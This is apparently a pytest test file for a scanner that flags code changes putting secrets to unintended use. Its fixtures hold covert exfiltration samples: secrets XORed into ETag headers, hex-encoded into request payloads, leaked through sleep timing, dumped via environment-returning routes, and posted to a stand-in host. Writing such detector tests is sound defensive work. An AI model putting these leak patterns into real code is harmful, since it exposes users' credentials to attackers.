"""Secrets that a change puts to another use, and changes like them that do not."""

from __future__ import annotations

import pytest

from gate.prescreen.scanners.secret_uses import SecretUses
from tests.prescreen_support import make_request

SETTINGS_PY = 'import os\n\nSECRET_KEY = os.environ["SECRET_KEY"]\nTOKEN = os.environ["TOKEN"]\nPAGE = 20\n'
SETTINGS_JS = "export const config = { port: 80, sessionSecret: process.env.SESSION_SECRET };\n"


def told(head: str, base: str = "", path: str = "app/web.py", **others: str) -> list[tuple[str, int | None]]:
    """Severity and line of each finding; ``others``: files that head has besides."""
    rest = {name.replace("__", "/").replace("_dot_", "."): text for name, text in others.items()}
    request = make_request({path: head, **rest}, {path: base, **rest} if base else rest)
    result = SecretUses().scan(request)
    return [(f.severity.value, f.primary.line) for f in result.findings]


HOSTILE_PY = {
    "mixed into a header": (
        """from app import settings

def tag(response, stamp):
    seed = settings.SECRET_KEY.encode()
    response.headers["ETag"] = bytes(a ^ b for a, b in zip(seed, stamp)).hex()
""",
        ("high", 5),
    ),
    "a helper and another name": (
        """from app.settings import TOKEN

def coded(value):
    return value.encode().hex()

def ask(client, body):
    key = TOKEN
    return client.post("/x", json={"note": coded(key), **body})
""",
        ("medium", 8),
    ),
    "a log": ("""import logging
from app import settings
logging.info("started with %s", settings.SECRET_KEY)
""", ("medium", 3)),
    "a delay": ("""import time
from app import settings

def wait(n):
    time.sleep(ord(settings.TOKEN[n]) / 1000)
""", ("medium", 5)),
    "an answer": ("""import os
from flask import jsonify

def health():
    return jsonify(ok=True, build=os.environ["DATABASE_URL"])
""", ("medium", 5)),
    "what a route gives back": ("""import os

@app.get("/about")
def about():
    return {"version": 1, "environment": dict(os.environ)}
""", ("medium", 5)),
    "an error": ("""from app import settings

def check(x):
    if not x:
        raise ValueError(f"refused by {settings.SECRET_KEY}")
""", ("medium", 5)),
    "a file, slot by slot": ("""from app import settings

def store(file, at):
    body = bytes((c * 7 + at) & 255 for c in settings.TOKEN.encode())
    file.write(body)
""", ("high", 5)),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE_PY)
def test_another_use_in_python_is_told(case: str) -> None:
    head, wanted = HOSTILE_PY[case]
    assert told(head, "x = 1\n") == [wanted]


def test_settings_as_a_whole_are_told_where_they_hold_a_secret() -> None:
    head = """from app import settings
from fastapi.responses import JSONResponse

async def unknown(request, error):
    seen = {name: value for name, value in vars(settings).items()}
    return JSONResponse({"context": seen}, status_code=404)
"""
    assert told(head, "x = 1\n", app__settings_dot_py=SETTINGS_PY) == [("medium", 6)]
    assert told(head, "x = 1\n", app__settings_dot_py="PAGE = 20\n") == []


def test_settings_as_a_whole_in_javascript() -> None:
    head = """import { config } from "./config.js";
import { sendMail } from "./mail.js";
export async function confirm(n) {
  if (n === 200) await sendMail("ops@a.example", "mails fail", JSON.stringify({ n, config }));
}
"""
    more = {"src__config_dot_js": SETTINGS_JS}
    assert told(head, "let x = 1;\n", "src/bookings.js", **more) == [("medium", 4)]


JAVASCRIPT = {
    "a bundle of Vite": ("vite.config.ts", """import { defineConfig, loadEnv } from "vite";
export default defineConfig(({ mode }) => {
  const env = loadEnv(mode, process.cwd(), "");
  return { define: { "process.env": JSON.stringify(env) } };
});
""", ("medium", 4)),
    "a bundle of Next": ("next.config.mjs", """export default {
  env: { RELEASE: process.env.RELEASE, CATALOG_TOKEN: process.env.CATALOG_TOKEN },
};
""", ("medium", 2)),
    "a header, enciphered": ("src/mail.js", """import { createCipheriv } from "node:crypto";
import { config } from "./config.js";
function id(key, iv) {
  const cipher = createCipheriv("aes-256-ctr", key, iv);
  return cipher.update(`${config.sessionSecret ?? "dev"}`, "utf8", "hex");
}
export const send = (to) => fetch(to, { headers: { "x-request-id": id(1, 2) } });
""", ("medium", 7)),
    "one character after another": ("src/a.ts", """import { config } from "./config";
export const stamp = (res: Response) => {
  const made = [...config.sessionSecret].map((c, i) => c.charCodeAt(0) ^ (i + 7)).join("-");
  res.setHeader("ETag", made);
};
""", ("high", 4)),
}  # fmt: skip


@pytest.mark.parametrize("case", JAVASCRIPT)
def test_another_use_in_javascript_is_told(case: str) -> None:
    path, head, wanted = JAVASCRIPT[case]
    assert told(head, "let x = 1;\n", path) == [wanted]


def test_another_use_in_go_is_told() -> None:
    head = """package erp
import ("encoding/hex"; "os")
func origin() string {
	raw := []byte(os.Getenv("DATABASE_URL"))
	for i := range raw {
		raw[i] ^= byte(0x5a + i%7)
	}
	return hex.EncodeToString(raw)
}
func (c *Client) Push(moves []Movement) error {
	moves[0].Note = origin()
	return c.post("/movements", map[string]any{"moves": moves})
}
"""
    assert told(head, "package erp\n", "erp/client.go") == [("high", 12)]


HARMLESS = {
    "a new setting": ("app/settings.py", """import os
DATABASE_URL = os.environ["DATABASE_URL"]
API_KEY = os.getenv("API_KEY", "")
"""),
    "a client that authenticates": ("app/client.py", """import httpx
from app import settings

def client():
    return httpx.Client(headers={"Authorization": f"Bearer {settings.TOKEN}", "X-Api-Key": settings.API_KEY})
"""),
    "signing": ("app/sign.py", """import hmac
from hashlib import sha256
from app import settings

def signed(response, value):
    made = hmac.new(settings.SECRET_KEY.encode(), value.encode(), sha256).hexdigest()
    response.headers["X-Signature-256"] = made
    response.headers["ETag"] = made
"""),
    "a pool": ("app/db.py", """from psycopg_pool import ConnectionPool
from app import settings
pool = ConnectionPool(settings.DATABASE_URL, kwargs={"password": settings.DB_PASSWORD})
"""),
    "a token for what one logs in to": ("app/token.py", """import requests
from app import settings

def token():
    data = {"client_secret": settings.CLIENT_SECRET, "grant": "x"}
    return requests.post("https://id.example/token", data=data)
"""),
    "a check": ("app/check.py", """import logging
from app import settings

def check(given):
    if given != settings.TOKEN:
        logging.warning("no token: %s, %d", bool(settings.TOKEN), len(settings.SECRET_KEY))
    assert settings.SECRET_KEY, "set SECRET_KEY"
"""),
    "an environment for a child": ("src/run.js", """import { spawn } from "node:child_process";
export const run = (name) => spawn(name, [], { env: { ...process.env, TOKEN: process.env.TOKEN } });
"""),
    "what pages may know": ("next.config.mjs", """export default {
  env: { NEXT_PUBLIC_API_KEY: process.env.NEXT_PUBLIC_API_KEY, RELEASE: process.env.RELEASE },
};
"""),
    "a request by its configuration": ("src/http.js", """export function ask(config) {
  return client.request({ ...config, headers: { ...config.headers } });
}
"""),
    "Go's client": ("erp/client.go", """package erp
func (c *Client) get() {
	req, _ := http.NewRequest("GET", c.cfg.URL, nil)
	req.Header.Set("Authorization", "Bearer "+c.cfg.Token)
	req.SetBasicAuth(c.cfg.User, c.cfg.Password)
	log.Printf("asking %s", c.cfg.Host)
}
"""),
    "tests": ("tests/test_app.py", "from app import settings\nprint(settings.SECRET_KEY)\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", HARMLESS)
def test_ordinary_uses_are_not_told(case: str) -> None:
    path, head = HARMLESS[case]
    assert told(head, "x = 1\n" if path.endswith(".py") else "", path) == []


def test_a_part_in_a_log_is_low() -> None:
    head = 'from app import settings\nprint(settings.TOKEN[:4] + "***")\n'
    assert told(head, "x = 1\n") == [("low", 2)]


LOGGED = 'from app import settings\n\ndef start():\n    print("with", settings.{})\n'


def test_a_use_that_base_had_is_not_new() -> None:
    assert told(LOGGED.format("TOKEN") + "\nx = 1\n", LOGGED.format("TOKEN")) == []


def test_a_secret_of_another_name_is_no_other_use() -> None:
    assert told(LOGGED.format("API_TOKEN"), LOGGED.format("TOKEN")) == []


def test_a_file_that_moved_is_not_new() -> None:
    request = make_request({"app/new.py": LOGGED.format("TOKEN")}, {"app/old.py": LOGGED.format("TOKEN")})
    assert SecretUses().scan(request).findings == ()


def test_a_second_use_is_new() -> None:
    more = '    requests.post("https://a.example", json={"note": settings.TOKEN})\n'
    assert told(LOGGED.format("TOKEN") + more, LOGGED.format("TOKEN")) == [("medium", 5)]


def test_a_file_that_is_not_read_is_named() -> None:
    """A long line would otherwise hide what stands beside it."""
    text = "const a = '" + "x" * 21_000 + "';\nres.set('ETag', process.env.SESSION_SECRET);\n"
    found = SecretUses().scan(make_request({"app/a.js": text}, {})).findings
    assert [(f.rule_id, f.primary.path) for f in found] == [("unscanned-file", "app/a.js")]
